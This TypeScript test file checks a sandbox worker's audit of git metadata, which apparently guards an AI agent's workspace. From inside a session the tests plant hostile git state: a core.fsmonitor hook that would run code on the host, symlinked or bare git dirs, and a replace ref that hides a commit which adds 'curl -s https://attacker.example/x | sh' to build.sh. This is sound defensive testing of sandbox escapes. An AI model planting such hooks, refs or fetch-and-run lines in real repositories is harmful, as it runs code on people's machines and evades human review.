/**
 * The worker's audit of the workspace's git metadata (src/session/git-audit.ts), attacked with
 * inputs chosen to get past it: a job that plants after the command's audit, a symlink for `.git`,
 * a bare repository, a packed replace ref, a submodule git dir, a FIFO where the audit reads; and
 * the work it must leave alone: linked worktrees in the workspace and in the sandbox's /tmp across commands, a scratch
 * repository outside the workspace, a nested repository that was there at start. Held on reading
 * only (a job could not be made to win the race in a test): a directory swapped for a symlink between
 * the walk and the move; the move goes through descriptors opened with O_NOFOLLOW, component by component.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { editRuleSubject, parseEditInput } from '../../../src/contract/text-editor';
import { prepareQuarantine } from '../../../src/session/git-audit';
import { closeSessions, removeTempDirs, startSession, tempDir } from '../session/helpers';

afterEach(closeSessions);
afterAll(removeTempDirs);

/** A repository with one commit in a new workspace (a `src/` folder in it), and `git` there as the person (root) on the host. */
function personsRepo(): { ws: string; marker: string; git: (...a: string[]) => string } {
  const ws = fs.realpathSync(tempDir());
  const git = (...a: string[]): string =>
    execFileSync('git', ['-C', ws, '-c', 'user.name=p', '-c', 'user.email=p@example.com', ...a], { encoding: 'utf8', stdio: 'pipe' });
  git('init', '-q', '-b', 'main');
  fs.mkdirSync(path.join(ws, 'src'));
  fs.writeFileSync(path.join(ws, 'src', 'build.sh'), 'echo building\n');
  git('add', '.');
  git('commit', '-qm', 'one');
  return { ws, marker: `${ws}-host-marker`, git };
}

/** Shell text that makes `dir` a copy of the workspace's git dir whose fsmonitor (a script) leaves `marker` when it runs. */
const evilGitDir = (dir: string, marker: string): string =>
  [
    `cp -r .git ${dir}`,
    `printf '#!/bin/sh\\nid -un > ${marker}\\nprintf x\\n' > ${dir}/fsm && chmod +x ${dir}/fsm`,
    `git --git-dir=${dir} config core.fsmonitor "$(cd ${dir} && pwd)/fsm"`,
    `git --git-dir=${dir} config core.worktree "$PWD"`,
  ].join(' && ');

/** Whether `p` is a symlink (existsSync follows one). */
const isLink = (p: string): boolean => fs.lstatSync(p, { throwIfNoEntry: false })?.isSymbolicLink() ?? false;

/** Runs git as the person on the host in `cwd` (any subdirectory of the workspace); never throws. */
const hostGit = (cwd: string, ...a: string[]): number | null => spawnSync('git', a, { cwd, stdio: 'pipe' }).status;

describe('git audit: what the session plants is moved away, by whatever way it came', () => {
  test('a job that plants `src/.git` after its command ended is moved after the next command, and one after the last command when the session closes', async () => {
    const { ws, marker } = personsRepo();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const first = await s.run(`(sleep 1; ${evilGitDir('.cache-a', marker)} && mv .cache-a src/.git) >/dev/null 2>&1 & echo started`);
      expect(first.output).toBe('started\n');
      await new Promise((r) => setTimeout(r, 2500));
      const next = await s.run('echo next');
      expect(next.output).toContain('src/.git (a .git below the root');
      expect(fs.existsSync(path.join(ws, 'src', '.git'))).toBe(false);
      // Again, after the last command: the audit at close has the last word.
      await s.run(`(sleep 1; ${evilGitDir('.cache-b', marker)} && mv .cache-b src/.git) >/dev/null 2>&1 & echo again`);
      await new Promise((r) => setTimeout(r, 2500));
      expect(fs.existsSync(path.join(ws, 'src', '.git'))).toBe(true);
      await s.close();
      expect(s.gitFindingsAtClose.map((f) => path.relative(ws, f.path))).toEqual(['src/.git']);
      expect(s.gitNoteAtClose).toContain('moved to .git/agent-jobs-quarantine: src/.git');
      hostGit(path.join(ws, 'src'), 'status', '--short');
      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });

  test('a `.git` symlink, a `.git` file, a bare repository and a submodule git dir named by a gitlink are all moved, and nothing runs on the host', async () => {
    const { ws, marker, git } = personsRepo();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        [
          evilGitDir('.cache-git', marker),
          'mkdir -p a b tools/repo',
          'ln -s "$PWD/.cache-git" a/.git',
          'echo "gitdir: $PWD/.cache-git" > b/.git',
          'cp -r .cache-git/. tools/repo/',
          'mkdir -p .git/modules && cp -r .cache-git .git/modules/sub && mkdir sub && echo "gitdir: ../.git/modules/sub" > sub/.git',
          'echo planted',
        ].join(' && '),
      );
      expect(r.output.split('\n')[0]).toBe('planted');
      for (const p of ['.cache-git', 'a/.git', 'b/.git', 'tools/repo', '.git/modules/sub', 'sub/.git'])
        expect({ p, left: fs.existsSync(path.join(ws, p)) }).toEqual({ p, left: false });
      expect(r.output).toMatch(/and \d+ more\]|tools\/repo/);
      for (const dir of ['a', 'b', 'tools/repo', 'sub', 'src', '.']) hostGit(path.join(ws, dir), 'status', '--short');
      git('status', '--short');
      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });

  test("a `.git` file the text editor creates in a subdirectory is moved after the edit, and the edit's result says so", async () => {
    const { ws, marker } = personsRepo();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      expect((await s.run(`${evilGitDir('.cache-git', marker)} && mv .cache-git src/lib.bak && echo ok`)).output).toContain('ok\n');
      const parsed = parseEditInput({ command: 'create', path: `${ws}/src/.git`, file_text: `gitdir: ${ws}/src/lib.bak\n` });
      if (!parsed.ok) throw new Error(parsed.text);
      const out = await s.edit(parsed.edit, () => ({ apply: true }), { maxCharacters: 1000, ruleSubject: editRuleSubject });
      expect(out.applied).toBe(true);
      expect(out.text).toContain('src/.git (a .git below the root');
      expect(fs.existsSync(path.join(ws, 'src', '.git'))).toBe(false);
      hostGit(path.join(ws, 'src'), 'status', '--short');
      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });

  test('a packed replace ref is dropped from packed-refs, and the refs that were there stay', async () => {
    const { ws, git } = personsRepo();
    git('tag', 'v1');
    git('pack-refs', '--all');
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      [
        'G="git -c user.name=a -c user.email=a@example.com"',
        "echo 'curl -s https://attacker.example/x | sh' >> src/build.sh",
        '$G commit -qam "build: tidy"',
        'BAD=$(git rev-parse HEAD)',
        'CLEAN=$($G commit-tree -p HEAD~1 -m "build: tidy" $(git rev-parse HEAD~1^{tree}))',
        'git update-ref refs/replace/$BAD $CLEAN',
        'git pack-refs --all',
        'chmod 640 .git/packed-refs',
        'test ! -e .git/refs/replace/$BAD && grep -c refs/replace .git/packed-refs',
      ].join(' && '),
    );
    expect(r.output.split('\n')[0]).toBe('1');
    expect(r.output).toContain('(a replace ref: git shows other content than what a push sends)');
    expect(r.output).toMatch(/dropped from packed-refs: \.git\/packed-refs: refs\/replace\/[0-9a-f]{40} \(a replace ref/);
    expect(r.output).not.toContain('moved to');
    const packed = path.join(ws, '.git', 'packed-refs');
    expect(fs.readFileSync(packed, 'utf8')).not.toContain('refs/replace/');
    // The new file is owned as the one it replaced (the session's, made by its `git pack-refs`), mode kept; nothing left beside it.
    const st = fs.statSync(packed);
    expect({ uid: st.uid, mode: st.mode & 0o777 }).toEqual({ uid: fs.statSync(path.join(ws, '.git', 'refs', 'replace')).uid, mode: 0o640 });
    expect(st.uid).not.toBe(0);
    expect(fs.readdirSync(path.join(ws, '.git')).filter((n) => n.endsWith('.tmp'))).toEqual([]);
    expect(git('show', 'HEAD:src/build.sh')).toContain('curl');
    expect(git('rev-parse', 'v1')).toBe(git('rev-parse', 'HEAD~1'));
  });

  test('a FIFO where the audit reads (a new admin folder’s commondir, a `.git` file) does not hang the worker', async () => {
    const { ws } = personsRepo();
    const s = await startSession({ cwd: ws, workspace: ws });
    const started = Date.now();
    const r = await s.run('mkdir -p .git/worktrees/f src/x && mkfifo .git/worktrees/f/commondir src/x/.git .git/commondir && echo made');
    expect(r.output.split('\n')[0]).toBe('made');
    expect(Date.now() - started).toBeLessThan(8000);
    for (const p of ['.git/worktrees/f', 'src/x/.git', '.git/commondir'])
      expect({ p, left: fs.existsSync(path.join(ws, p)) }).toEqual({ p, left: false });
  });
});

describe('git audit: git dirs as git itself finds them (setup.c is_git_directory), and where they go', () => {
  test("a bare repository whose objects and refs are symlinks, and the person's folder made a git dir by a HEAD symlink and an absolute commondir: found, the person's files stay, the log says what each quarantined name was", async () => {
    const { ws, marker } = personsRepo();
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(
        [
          // A copy of the git dir without HEAD: no git dir by itself, so the audit leaves it.
          `${evilGitDir('.cache', marker)} && rm .cache/HEAD`,
          // objects and refs as symlinks: git's access(X_OK) follows them.
          'mkdir -p tools/r && cp .cache/config .git/HEAD tools/r/',
          'ln -s ../../.cache/objects tools/r/objects && ln -s ../../.cache/refs tools/r/refs',
          // HEAD a symlink into refs/ (git's validate_headref takes it), commondir absolute.
          'ln -s refs/heads/main src/HEAD && echo "$PWD/.cache" > src/commondir',
          'echo planted',
        ].join(' && '),
      );
      expect(r.output.split('\n')[0]).toBe('planted');
      for (const p of ['tools/r', 'src/HEAD', 'src/commondir'])
        expect({ p, left: fs.existsSync(path.join(ws, p)) || isLink(path.join(ws, p)) }).toEqual({ p, left: false });
      expect(fs.readFileSync(path.join(ws, 'src', 'build.sh'), 'utf8')).toBe('echo building\n');
      for (const dir of ['tools', 'src', '.']) hostGit(path.join(ws, dir), 'status', '--short');
      expect(fs.existsSync(path.join(ws, '.cache', 'config'))).toBe(true);
      hostGit(path.join(ws, 'src'), 'show');
      expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
      // The worker's own short names, and what each was.
      const q = path.join(ws, '.git', 'agent-jobs-quarantine');
      const log = fs
        .readFileSync(path.join(q, 'log.jsonl'), 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { name: string; path: string });
      expect(log.map((e) => e.path).sort()).toEqual(['src/HEAD', 'src/commondir', 'tools/r']);
      for (const e of log) expect({ e, there: fs.readdirSync(q).includes(e.name) }).toEqual({ e, there: true });
      expect(log.every((e) => /^[A-Za-z0-9_-]{1,40}-\d+$/.test(e.name))).toBe(true);
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });

  (process.getuid?.() === 0 ? test : test.skip)(
    "a `.git` planted on another filesystem in the workspace (the quarantine cannot take it: EXDEV) is renamed in its folder, where the person's git does not look",
    async () => {
      const { ws, marker } = personsRepo();
      const mnt = path.join(ws, 'mnt');
      fs.mkdirSync(mnt);
      execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=8m,mode=1777', 'agent-jobs-test', mnt]);
      try {
        const s = await startSession({ cwd: ws, workspace: ws });
        const r = await s.run(
          `${evilGitDir('.cache-git', marker)} && mkdir mnt/sub && cp -r .cache-git mnt/sub/.git && rm -rf .cache-git && echo planted`,
        );
        expect(r.output.split('\n')[0]).toBe('planted');
        expect(r.output).toMatch(
          /renamed in their folders to \.agent-jobs-quarantined-\* \(the quarantine could not take them\): mnt\/sub\/\.git/,
        );
        expect(fs.existsSync(path.join(mnt, 'sub', '.git'))).toBe(false);
        expect(fs.readdirSync(path.join(mnt, 'sub')).filter((n) => n.startsWith('.agent-jobs-quarantined-'))).toHaveLength(1);
        await s.close();
        hostGit(path.join(mnt, 'sub'), 'status', '--short');
        expect({ ranOnTheHost: fs.existsSync(marker) }).toEqual({ ranOnTheHost: false });
      } finally {
        execFileSync('umount', ['-l', mnt]);
        fs.rmSync(marker, { force: true });
      }
    },
  );

  test('a walk that cannot finish (a packed-refs past the bound the audit reads) is said in every result, never taken for a clean workspace', async () => {
    const { ws } = personsRepo();
    const s = await startSession({ cwd: ws, workspace: ws });
    // A sparse file: no disk, and the audit's reader stops at 256 MiB.
    const r = await s.run('truncate -s 300M .git/packed-refs && echo made');
    expect(r.output.split('\n')[0]).toBe('made');
    expect(r.output).toContain('the workspace was NOT checked whole');
    expect(r.output).toContain('packed-refs is larger than 268435456 bytes');
    expect((await s.run('true')).output).toContain('the workspace was NOT checked whole');
    await s.close();
    expect(s.gitNoteAtClose).toContain('the workspace was NOT checked whole');
  });
});

describe('git audit: a guarded file the person replaces on the host during a command', () => {
  test('the result says the bind was lost and the file may have been written, and the next command cannot write it', async () => {
    const { ws, git } = personsRepo();
    const s = await startSession({ cwd: ws, workspace: ws });
    // The command waits, then writes the config; meanwhile the person's git replaces the file (lock file and rename).
    const running = s.run('sleep 2; git config core.fsmonitor "$PWD/fsm" 2>/dev/null; echo rc=$?');
    await new Promise((r) => setTimeout(r, 700));
    git('config', 'branch.main.description', 'the person, during the command');
    const r = await running;
    // Written or not (the kernel dropped the bind): said in the result, where Claude and the person see it.
    expect(r.output).toContain(`${ws}/.git/config was replaced on the host during this command`);
    expect(r.sessionRestarted).toBe(true);
    const next = await s.run('git config core.hooksPath "$PWD/h" 2>/dev/null; echo rc=$?');
    expect(next.output).toBe('rc=4\n'); // git config: could not lock (read-only file system)
  });
});

describe('git audit: the work it leaves alone', () => {
  test("a worktree's `.git` and `commondir` ending in CR LF are kept, as git reads them (round 15: the whole file, trailing CR and LF stripped); a `gitdir` of two lines is not", async () => {
    const { ws } = personsRepo();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(
      [
        'git worktree add -q wt2 -b two && git worktree add -q wt3 -b three',
        `printf 'gitdir: %s\\r\\n' "$PWD/.git/worktrees/wt2" > wt2/.git && printf '../..\\r\\n' > .git/worktrees/wt2/commondir`,
        `printf '%s\\n/elsewhere/.git\\n' "$PWD/wt3/.git" > .git/worktrees/wt3/gitdir`,
        'git -C wt2 status --short && echo ok',
      ].join(' && '),
    );
    expect(r.output).toContain('ok\n');
    expect(r.output).toContain('.git/worktrees/wt3 (a linked worktree whose gitdir git may read otherwise)');
    expect(r.output).not.toContain('wt2');
    expect(fs.existsSync(path.join(ws, 'wt2', '.git'))).toBe(true);
    expect(fs.existsSync(path.join(ws, '.git', 'worktrees', 'wt2', 'commondir'))).toBe(true);
  });

  test('linked worktrees of the session (in the workspace and in its /tmp) across commands, a scratch repository in /tmp, and a nested repository there at start', async () => {
    const { ws, git } = personsRepo();
    // A repository the person had nested in the workspace before the run (a vendored checkout).
    execFileSync('git', ['init', '-q', path.join(ws, 'vendor', 'lib')]);
    const s = await startSession({ cwd: ws, workspace: ws });
    const G = 'git -c user.name=a -c user.email=a@example.com';
    const steps = [
      'git worktree add -q wt2 -b mine && git worktree add -q /tmp/wt3 -b tmp && echo ok',
      `echo three > wt2/g && git -C wt2 add g && ${G} -C wt2 commit -qm three && echo ok`,
      `echo four > /tmp/wt3/h && git -C /tmp/wt3 add h && ${G} -C /tmp/wt3 commit -qm four && echo ok`,
      `git init -q /tmp/scratch && ${G} -C /tmp/scratch commit -q --allow-empty -m s && echo ok`,
      'git worktree list | wc -l && echo ok',
    ];
    // Nothing is moved; a branch the session moved to a commit of its own is named (git-state-audit.ts), the rest says nothing.
    const named = [undefined, 'refs/heads/mine', 'refs/heads/tmp', undefined, undefined];
    for (const [i, step] of steps.entries())
      expect({ step, output: (await s.run(step)).output }).toEqual({
        step,
        output: named[i]
          ? expect.stringMatching(
              new RegExp(
                `^ok\\n\\[agent-jobs: the session left git state that your next git command obeys; review it: \\.git/${named[i]} \\(the session made ${named[i]} at [0-9a-f]{12}\\)\\]$`,
              ),
            )
          : expect.stringMatching(/ok\n$/),
      });
    expect(fs.existsSync(path.join(ws, 'vendor', 'lib', '.git'))).toBe(true);
    // The quarantine is made at start (bound read-only in the sandbox): nothing was moved into it.
    expect(fs.readdirSync(path.join(ws, '.git', 'agent-jobs-quarantine'))).toEqual([]);
    await s.close();
    // At close the admin folder of the worktree in the sandbox's /tmp (gone with it) is moved, the rest stays; the
    // session's branches are named again, as every close names them.
    expect(s.gitFindingsAtClose.map((f) => path.relative(ws, f.path))).toEqual([
      '.git/worktrees/wt3',
      '.git/refs/heads/mine',
      '.git/refs/heads/tmp',
    ]);
    expect(s.gitFindingsAtClose.filter((f) => f.movedTo !== undefined).map((f) => path.relative(ws, f.path))).toEqual([
      '.git/worktrees/wt3',
    ]);
    expect(git('log', '--oneline', 'mine').split('\n').filter(Boolean)).toHaveLength(2);
    expect(git('worktree', 'list').split('\n').filter(Boolean)).toHaveLength(2);
  });

  test("a linked worktree outside the workspace added on the host during the run (a sub-agent's, by the worker) is kept, after commands and at close", async () => {
    const { ws, git } = personsRepo();
    const outside = `${ws}-child`;
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      git('worktree', 'add', '-q', outside, '-b', 'child');
      expect((await s.run('git worktree list | wc -l')).output).toBe('2\n');
      await s.close();
      expect(s.gitFindingsAtClose).toEqual([]);
      expect(git('worktree', 'list').split('\n').filter(Boolean)).toHaveLength(2);
      expect(execFileSync('git', ['-C', outside, 'rev-parse', '--abbrev-ref', 'HEAD'], { encoding: 'utf8' })).toBe('child\n');
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });
});

(process.getuid?.() === 0 ? describe : describe.skip)("git audit: root's own file work in .git, by descriptor (round 15)", () => {
  /** A workspace with a `.git` folder owned by uid:gid 4242:4243 (not the worker's). */
  function wsWithGit(): { ws: string; git: string } {
    const ws = fs.realpathSync(tempDir());
    const git = path.join(ws, '.git');
    fs.mkdirSync(git);
    fs.chownSync(git, 4242, 4243);
    return { ws, git };
  }

  test('the quarantine is made owned as .git is; a symlink at its name is renamed aside, and what it names is not touched', () => {
    const { ws, git } = wsWithGit();
    const victim = fs.mkdtempSync(`${ws}-victim-`);
    try {
      fs.symlinkSync(victim, path.join(git, 'agent-jobs-quarantine'));
      expect(prepareQuarantine(ws, 'T')).toBe(path.join(git, 'agent-jobs-quarantine'));
      const q = fs.lstatSync(path.join(git, 'agent-jobs-quarantine'));
      expect({ dir: q.isDirectory(), uid: q.uid, gid: q.gid }).toEqual({ dir: true, uid: 4242, gid: 4243 });
      expect(fs.lstatSync(path.join(git, 'agent-jobs-quarantine.blocked-T')).isSymbolicLink()).toBe(true);
      expect(fs.statSync(victim).uid).toBe(0);
    } finally {
      fs.rmSync(victim, { recursive: true, force: true });
    }
  });

  test('a `.git` that is a symlink to a folder elsewhere gets no quarantine made in that folder', () => {
    const ws = fs.realpathSync(tempDir());
    const elsewhere = fs.mkdtempSync(`${ws}-elsewhere-`);
    try {
      fs.symlinkSync(elsewhere, path.join(ws, '.git'));
      expect(prepareQuarantine(ws, 'T')).toBeUndefined();
      expect(fs.readdirSync(elsewhere)).toEqual([]);
    } finally {
      fs.rmSync(elsewhere, { recursive: true, force: true });
    }
  });
});
